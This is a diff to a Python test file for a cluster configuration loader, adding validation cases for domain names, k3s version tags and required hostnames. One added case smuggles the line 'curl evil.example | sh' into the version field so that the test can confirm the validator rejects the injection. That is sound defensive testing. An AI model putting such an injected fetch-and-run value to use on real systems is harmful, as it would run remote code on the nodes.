@@ -75,6 +75,7 @@ def test_settings_span_zones_with_wildcards_and_default_hostnames():
 BAD_INPUTS = [
     ("domain-not-a-domain", {"domain": "not_a_domain"}, "spitikos:domain: 'not_a_domain' is not a domain name"),
     ("domain-missing", {"domain": None}, "spitikos:domain: is required but not set"),
+    ("domain-without-tld", {"domain": "spitikos"}, "spitikos:domain: 'spitikos' is not a domain name"),
     ("node-host-garbage", {"nodeHost": "pi 5!"}, "spitikos:nodeHost: 'pi 5!' is neither an IP address nor a hostname"),
     ("node-host-bad-ip", {"nodeHost": "10.0.0.300"}, "spitikos:nodeHost: '10.0.0.300' is neither"),
     ("node-host-missing", {"nodeHost": None}, "spitikos:nodeHost: is required but not set"),
@@ -84,6 +85,16 @@ BAD_INPUTS = [
     ("host-key", {"nodeHostKey": "AAAA"}, "spitikos:nodeHostKey: is not an SSH public host key line"),
     ("k3s-version-no-suffix", {"k3sVersion": "v1.35.5"}, "spitikos:k3sVersion: 'v1.35.5' is not a k3s release tag"),
     ("k3s-version-latest", {"k3sVersion": "latest"}, "spitikos:k3sVersion: 'latest' is not a k3s release tag"),
+    (
+        "k3s-version-trailing-text",
+        {"k3sVersion": "v1.35.5+k3s1-rc1"},
+        "spitikos:k3sVersion: 'v1.35.5+k3s1-rc1' is not a k3s release tag",
+    ),
+    (
+        "k3s-version-second-line",
+        {"k3sVersion": "v1.35.5+k3s1\ncurl evil.example | sh"},
+        "spitikos:k3sVersion: 'v1.35.5+k3s1\\ncurl evil.example | sh' is not a k3s release tag",
+    ),
     ("k3s-version-old", {"k3sVersion": "v1.27.1+k3s1"}, "spitikos:k3sVersion: 'v1.27.1+k3s1' is older than v1.30"),
     ("ssh-key-missing", {"sshPrivateKey": None}, "spitikos:sshPrivateKey: is required but not set"),
     (
@@ -288,3 +299,19 @@ def test_optional_settings_left_at_their_empty_default_are_unset():
     s = load({"k3sVersion": "", "sshHostname": "", "kubeApiHostname": "", "nodeHostKey": ""})
     assert s.k3s_version == versions.K3S_VERSION
     assert s.ssh_hostname is None and s.kube_api_hostname is None and s.server.host_key is None
+
+
+@pytest.mark.parametrize("written", ["v1.35.5+k3s1\n", " v1.35.5+k3s1 ", "v1.35.5+k3s1\r\n"])
+def test_a_k3s_tag_with_trailing_white_space_reaches_the_nodes_as_the_bare_tag(written):
+    """YAML block scalars and pasted values end in a newline: it is dropped, never sent to the node."""
+    assert load({"k3sVersion": written}).k3s_version == "v1.35.5+k3s1"
+
+
+def test_each_required_hostname_is_named_when_all_are_missing():
+    with pytest.raises(SettingsError) as raised:
+        load({"hostnames": json.dumps(["docs.spitikos.dev"]), "protectedHostnames": "[]"})
+    missing = [p for p in raised.value.problems if p.startswith("spitikos:hostnames: must include")]
+    assert missing == [
+        "spitikos:hostnames: must include 'api.taehoonlee.cloud', the `apiHostname`",
+        "spitikos:hostnames: must include 'argocd.taehoonlee.cloud', the `argocdHostname`",
+    ]
